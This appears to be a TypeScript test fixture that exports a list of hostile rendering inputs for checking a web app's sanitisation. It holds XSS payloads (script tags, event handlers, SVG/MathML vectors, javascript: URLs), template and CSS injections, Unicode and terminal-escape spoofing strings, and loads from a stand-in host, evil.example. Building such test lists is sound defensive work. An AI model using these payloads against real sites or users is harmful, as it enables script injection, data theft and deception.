/** What a customer may write in the hope that it runs, loads, hides or passes for something else. Each calls `pwned()` or `//evil.example`, if it can. */
const evil = "https://evil.example/stolen"

const tags = ["img", "svg", "iframe", "video", "body", "input autofocus", "details open", "marquee", "object", "embed"]
const handlers = ["onerror", "onload", "onfocus", "ontoggle"]

const markup = [
  "<script>pwned()</script>",
  `<script src="${evil}"></script>`,
  "</script><script>pwned()</script>",
  "--><script>pwned()</script>",
  "]]><script>pwned()</script>",
  "</bdi></p></section><script>pwned()</script>",
  "</textarea><script>pwned()</script>",
  "</style><script>pwned()</script>",
  "</title><script>pwned()</script>",
  "</template><script>pwned()</script>",
  "<scr<script>ipt>pwned()</scr</script>ipt>",
  "<SCRIPT>pwned()</SCRIPT>",
  "<script\u0000>pwned()</script>",
  "<\u0000script>pwned()</script>",
  "<img src=x onerror=pwned()>",
  '"><img src=x onerror=pwned()>',
  "'><img src=x onerror=pwned()>",
  "` onmouseover=pwned() x=`",
  '" onfocus="pwned()" autofocus tabindex="0',
  "<img/src/onerror=pwned()>",
  `<img src="${evil}.png">`,
  `<img srcset="${evil}.png 2x">`,
  `<picture><source srcset="${evil}"><img></picture>`,
  `<input type=image src="${evil}">`,
  `<video poster="${evil}" src="${evil}"></video>`,
  `<audio src="${evil}" autoplay></audio>`,
  `<link rel=stylesheet href="${evil}.css">`,
  `<link rel=prefetch href="${evil}">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<base href="${evil}/">`,
  `<iframe src="${evil}"></iframe>`,
  `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
  `<object data="${evil}"></object>`,
  `<embed src="${evil}">`,
  `<form action="${evil}"><button autofocus>Log in again</button></form>`,
  `<portal src="${evil}"></portal>`,
  "<style>@import url(//evil.example/x.css);*{background:url(//evil.example/x)}</style>",
  "<template shadowrootmode=open><script>pwned()</script></template>",
  "<tellonce-panel></tellonce-panel>",
  "<dialog open>Your session has ended</dialog>",
]

const svg = [
  "<svg onload=pwned()>",
  "<svg/onload=pwned()>",
  "<svg><script>pwned()</script></svg>",
  "<svg><script href=data:,pwned()></script></svg>",
  `<svg><image href="${evil}"></svg>`,
  `<svg><use href="${evil}#x"></svg>`,
  "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:pwned()><text>click</text></a></svg>",
  "<svg><foreignObject><img src=x onerror=pwned()></foreignObject></svg>",
  "<svg><style><img src=x onerror=pwned()></style></svg>",
  "<math><mtext><mglyph><style><img src=x onerror=pwned()>",
  "<math href=javascript:pwned()>click</math>",
  '<math><annotation-xml encoding="text/html"><img src=x onerror=pwned()></annotation-xml></math>',
  "<math><mi//xlink:href='data:x,<script>pwned()</script>'>",
]

const addresses = [
  "javascript:pwned()",
  "JaVaScRiPt:pwned()",
  "java\tscript:pwned()",
  "java\nscript:pwned()",
  "\u0001javascript:pwned()",
  " javascript:pwned()",
  "javascript&colon;pwned()",
  "&#106;avascript:pwned()",
  "vbscript:pwned()",
  "data:text/html,<script>pwned()</script>",
  "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
  `blob:${evil}`,
  `//evil.example/stolen`,
  `\\\\evil.example\\stolen`,
  `${evil}`,
  `[click](javascript:pwned())`,
  `![x](${evil}.png)`,
  `<a href="javascript:pwned()">click</a>`,
  `<${evil}>`,
  "file:///etc/passwd",
]

const templates = [
  "{{constructor.constructor('pwned()')()}}",
  "{{7*7}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload
  "${pwned()}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload
  "${{constructor.constructor('pwned()')()}}",
  "#{pwned()}",
  "<%= pwned() %>",
  "<%- pwned() -%>",
  "*{pwned()}",
  "@(pwned())",
  "[[pwned()]]",
  "{% pwned() %}",
  "?lit$123456$",
  "<!--?lit$123456$-->",
  "<?lit$123456$><img src=x onerror=pwned()>",
  "lit$123456$",
  '{"strings":["<img src=x onerror=pwned()>"],"values":[],"_$litType$":1}',
  "__proto__",
  "constructor",
]

const styles = [
  "expression(pwned())",
  "x;background:url(//evil.example/x)",
  "}*{display:none}",
  "</style><style>:host{display:none}",
  "color:red;behavior:url(//evil.example/x)",
  '"]{}*{background:url(//evil.example/css)}',
]

const invisible = [
  "\u202egnp.exe",
  "\u202dleft\u202c",
  "\u2066\u2067\u2068nested\u2069\u2069\u2069",
  "\u061c\u200f\u200e",
  "a\u200bd\u200cm\u200di\u2060n",
  "\ufeffbom",
  "\u00adsoft",
  "\u{e0049}\u{e0047}\u{e004e}\u{e004f}\u{e0052}\u{e0045}",
  "\u115f\u3164\uffa0",
  "e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308".repeat(40),
  "\ud800 alone",
  "line\u2028paragraph\u2029end",
  "\u001b[31mred\u001b[0m\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007",
  "\u001b[2J\u001b[1;1H",
  "\u0007\u0008\u007f",
  "admin\u0000",
  "Ａｄｍｉｎ ✓ Verified",
  "ada@example.com ✓ Verified",
  "اختبار <b>RTL</b> \u202e",
  "\r\nevent: snapshot\r\ndata: {}\r\n",
]

const combined = tags.flatMap((tag, place) => {
  const handler = handlers[place % handlers.length] ?? "onerror"
  return [`<${tag} ${handler}=pwned() src=x>`, `<${tag}\n${handler}\n=\npwned()\nsrc=//evil.example/x>`]
})

export const renderingPayloads: readonly string[] = [
  ...new Set([
    ...markup,
    ...svg,
    ...addresses,
    ...templates,
    ...styles,
    ...invisible,
    ...combined,
    "<b>".repeat(5_000),
  ]),
]
